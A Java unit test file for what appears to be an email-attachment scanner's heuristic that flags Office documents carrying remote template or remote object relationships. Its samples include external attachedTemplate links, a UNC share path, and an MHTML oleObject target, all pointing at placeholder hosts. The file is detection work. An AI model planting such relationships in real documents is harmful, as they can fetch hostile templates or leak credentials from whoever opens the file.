package com.postwarden.scan.internal.heuristic.office;

import static com.postwarden.scan.internal.heuristic.office.OfficeSamples.scanned;
import static com.postwarden.scan.internal.heuristic.office.OfficeSamples.utf8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.Arrays;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RemoteTemplateHeuristicTest {
    private static final String OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private final RemoteTemplateHeuristic heuristic = new RemoteTemplateHeuristic();

    @ParameterizedTest
    @ValueSource(strings = {
        "<Relationship Id=\"rId1\" Type=\"" + OFFICE_RELS + "attachedTemplate\" Target=\"https://example.invalid/t.dotm\" TargetMode=\"External\"/>",
        "<Relationship Id=\"rId1\" Type=\"" + OFFICE_RELS + "attachedTemplate\" Target=\"\\\\198.51.100.7\\share\\t.dotm\" TargetMode=\"External\"/>",
        "<Relationship Id=\"rId9\" Type=\"" + OFFICE_RELS + "oleObject\" Target=\"mhtml:http://example.invalid/x.html!x-usc:http://example.invalid/x.html\" TargetMode=\"External\"/>",
        "<Relationship Id=\"rId3\" Type=\"" + OFFICE_RELS + "frame\" Target=\"file:///C:/Users/Public/x.html\" TargetMode=\"External\"/>",
    })
    void anExternalTemplateOrRemoteObjectRelationshipIsReported(String relationship) throws IOException {
        byte[] document = OfficeSamples.withParts(OfficeSamples.wordReport(),
                Map.of("word/_rels/settings.xml.rels", relationships(relationship)));

        assertThat(heuristic.examine(scanned("offer.docx", document))).containsExactly(RemoteTemplateHeuristic.NAME);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "<Relationship Id=\"rId1\" Type=\"" + OFFICE_RELS + "attachedTemplate\" Target=\"Normal.dotm\"/>",
        "<Relationship Id=\"rId2\" Type=\"" + OFFICE_RELS + "hyperlink\" Target=\"https://example.org/\" TargetMode=\"External\"/>",
        "<Relationship Id=\"rId3\" Type=\"" + OFFICE_RELS + "image\" Target=\"https://example.org/logo.png\" TargetMode=\"External\"/>",
        "<Relationship Id=\"rId4\" Type=\"" + OFFICE_RELS + "oleObject\" Target=\"embeddings/oleObject1.bin\"/>",
    })
    void internalRelationshipsAndExternalLinksAreNotReported(String relationship) throws IOException {
        byte[] document = OfficeSamples.withParts(OfficeSamples.wordReport(),
                Map.of("word/_rels/settings.xml.rels", relationships(relationship)));

        assertThat(heuristic.examine(scanned("offer.docx", document))).isEmpty();
    }

    @Test
    void normalDocumentsAreNotReported() throws IOException {
        assertThat(heuristic.examine(scanned("report.docx", OfficeSamples.wordReport()))).isEmpty();
        assertThat(heuristic.examine(scanned("sales.xlsx", OfficeSamples.excelReport()))).isEmpty();
    }

    @Test
    void damagedRelationshipsAndTruncatedPackagesAreNotReportedAndDoNotThrow() throws IOException {
        byte[] broken = OfficeSamples.withParts(OfficeSamples.wordReport(), Map.of("word/_rels/settings.xml.rels",
                utf8("<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"http://example.invalid/x.dtd\"><Relationships><Rel")));
        assertThat(heuristic.examine(scanned("broken.docx", broken))).isEmpty();
        byte[] document = OfficeSamples.withParts(OfficeSamples.wordReport(), Map.of("word/_rels/settings.xml.rels",
                relationships("<Relationship Id=\"rId1\" Type=\"" + OFFICE_RELS
                        + "attachedTemplate\" Target=\"https://example.invalid/t.dotm\" TargetMode=\"External\"/>")));
        assertThat(heuristic.examine(scanned("cut.docx", Arrays.copyOf(document, document.length - 40)))).isEmpty();
    }

    static byte[] relationships(String relationship) {
        return utf8("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + relationship + "</Relationships>");
    }
}
